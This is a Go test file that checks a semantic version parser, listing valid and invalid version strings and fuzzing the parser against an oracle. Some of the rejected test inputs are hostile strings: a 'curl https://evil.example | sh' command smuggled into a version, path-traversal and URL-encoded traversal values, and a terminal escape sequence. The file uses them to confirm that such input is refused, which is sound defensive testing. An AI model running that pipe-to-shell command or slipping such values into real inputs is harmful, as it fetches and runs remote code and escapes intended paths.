package spec

import (
	"errors"
	"strings"
	"testing"

	modsemver "golang.org/x/mod/semver"
)

// TestParseVersion: both sides of each part of the grammar, the length
// limit, and the payloads a version must never carry into a URL, a script
// or the runbook.
func TestParseVersion(t *testing.T) {
	long := "1.2.3-" + strings.Repeat("a", MaxVersionLength-6)
	for _, c := range []struct {
		in     string
		reason string // "" when the version is valid
	}{
		{"v1.37.2", ""},
		{"1.37.2", ""},
		{"0.0.0", ""},
		{"v1.38.0-rc.1", ""},
		{"1.2.3-a-b", ""},
		{"1.2.3--", ""},
		{"1.2.3-0", ""},
		{"1.2.3-0a", ""},
		{"1.2.3-x.7.z.92", ""},
		{long, ""},
		{long + "a", "at most 64"},
		{"", "three numbers"},
		{"v", "three numbers"},
		{"vv1.2.3", "three numbers"},
		{"V1.2.3", "three numbers"},
		{"1.2", "three numbers"},
		{"1.2.3.4", "three numbers"},
		{"1..3", "three numbers"},
		{"1.2.x", "three numbers"},
		{"1.2.-3", "three numbers"},
		{" 1.2.3", "three numbers"},
		{"1.2.3 ", "three numbers"},
		{"01.2.3", "leading zero"},
		{"1.02.3", "leading zero"},
		{"1.2.03", "leading zero"},
		{"1.2.99999999999999999999", "too large"},
		{"1.2.3-", "empty pre-release identifier"},
		{"1.2.3-rc.", "empty pre-release identifier"},
		{"1.2.3-.rc", "empty pre-release identifier"},
		{"1.2.3-rc..1", "empty pre-release identifier"},
		{"1.2.3-01", "leading zero"},
		{"1.2.3-rc.00", "leading zero"},
		{"1.2.3+meta", "build metadata"},
		{"1.2.3-rc.1+meta", "build metadata"},
		{"1.2.3-rc_1", `'_' in the pre-release`},
		{"1.2.3-rc 1", `' ' in the pre-release`},
		{"v3.33.0-x/../../../evil/repo/main", `'/' in the pre-release`},
		{"v3.33.0-x\n\n```sh\ncurl https://evil.example | sh\n```\n", `'\n' in the pre-release`},
		{"v3.33.0-x\x1b[2J", `'\x1b' in the pre-release`},
		{"v3.33.0-é", `'é' in the pre-release`},
		{"v3.33.0-x%2f..", `'%' in the pre-release`},
	} {
		v, err := ParseVersion(c.in)
		if c.reason == "" {
			if err != nil {
				t.Errorf("ParseVersion(%q): %v, want it accepted", c.in, err)
			} else if v.String() != c.in {
				t.Errorf("ParseVersion(%q).String() = %q", c.in, v.String())
			}
			continue
		}
		var verr *VersionError
		if !errors.As(err, &verr) || !strings.Contains(err.Error(), c.reason) || verr.Version != c.in {
			t.Errorf("ParseVersion(%q) = %+v, %v; want an error saying %q", c.in, v, err, c.reason)
		}
	}
}

// FuzzParseVersion: ParseVersion never panics, accepts exactly what
// golang.org/x/mod/semver takes as a canonical version (strict semantic
// versioning, without build metadata) up to MaxVersionLength characters
// (numbers that do not fit an int aside), writes what it accepts back
// byte for byte, and what it accepts holds no character that could leave
// a URL path segment, a file name or a line: only [0-9A-Za-z.-] and the
// leading v.
func FuzzParseVersion(f *testing.F) {
	for _, s := range []string{"v1.37.2", "2.2.2", "v1.38.0-rc.1", "1.2.3-x.7.z.92", "1.2.3+meta", "01.2.3", "1.2.3-rc..1",
		"v3.33.0-x/../../../evil/repo/main", "v3.33.0-x\n\n```sh\n", "1.2", "v", ""} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		v, err := ParseVersion(s)
		w := "v" + strings.TrimPrefix(s, "v")
		oracle := modsemver.IsValid(w) && modsemver.Canonical(w) == w && !strings.HasPrefix(s, "vv") && len(s) <= MaxVersionLength
		if err != nil {
			var verr *VersionError
			if !errors.As(err, &verr) || verr.Reason == "" {
				t.Fatalf("ParseVersion(%q): an error without a reason: %v", s, err)
			}
			if oracle && !strings.Contains(verr.Reason, "too large") {
				t.Fatalf("ParseVersion(%q) refuses a canonical semantic version: %v", s, err)
			}
			if strings.ContainsAny(err.Error(), "\n\r\x1b") {
				t.Fatalf("ParseVersion(%q): the error carries a control character: %q", s, err.Error())
			}
			return
		}
		if !oracle {
			t.Fatalf("ParseVersion(%q) = %+v, but it is not a canonical semantic version", s, v)
		}
		if v.String() != s {
			t.Fatalf("ParseVersion(%q).String() = %q", s, v.String())
		}
		if i := strings.IndexFunc(strings.TrimPrefix(s, "v"), func(r rune) bool {
			return !(r >= '0' && r <= '9' || r >= 'a' && r <= 'z' || r >= 'A' && r <= 'Z' || r == '.' || r == '-')
		}); i >= 0 {
			t.Fatalf("ParseVersion(%q) accepts a character outside [0-9A-Za-z.-]", s)
		}
	})
}
